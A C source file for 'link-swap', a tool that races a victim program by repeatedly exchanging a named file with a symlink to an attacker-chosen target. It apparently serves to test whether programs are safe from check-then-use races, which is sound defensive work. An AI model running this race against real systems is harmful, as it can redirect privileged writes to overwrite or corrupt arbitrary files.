/*
 * link-swap: what an attacker who can write a directory does to a program that looks at a name
 * and then uses it: exchanges NAME with a symbolic link to TARGET, over and over, so that the
 * name is a file at one moment and the link the next.
 *   link-swap DIR NAME TARGET SECONDS
 * DIR/NAME must exist; DIR/NAME.link is made. When the writer replaced the link (both names are
 * files again), a new link is made. Prints how many exchanges it made.
 */
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

int main(int argc, char **argv)
{
    char link[4096];
    struct stat a, b;
    long swaps = 0;
    time_t end;
    int dfd;

    if (argc != 5) {
        fprintf(stderr, "usage: link-swap DIR NAME TARGET SECONDS\n");
        return 64;
    }
    snprintf(link, sizeof(link), "%s.link", argv[2]);
    dfd = open(argv[1], O_RDONLY | O_DIRECTORY);
    if (dfd < 0 || symlinkat(argv[3], dfd, link) != 0) {
        perror(argv[1]);
        return 1;
    }
    end = time(NULL) + atoi(argv[4]);
    while (time(NULL) < end) {
        for (int i = 0; i < 100; i++, swaps++)
            renameat2(dfd, argv[2], dfd, link, RENAME_EXCHANGE);
        if (fstatat(dfd, argv[2], &a, AT_SYMLINK_NOFOLLOW) == 0 &&
            fstatat(dfd, link, &b, AT_SYMLINK_NOFOLLOW) == 0 && !S_ISLNK(a.st_mode) &&
            !S_ISLNK(b.st_mode)) {
            unlinkat(dfd, link, 0);
            if (symlinkat(argv[3], dfd, link) != 0)
                break;
        }
    }
    printf("%ld\n", swaps);
    return 0;
}
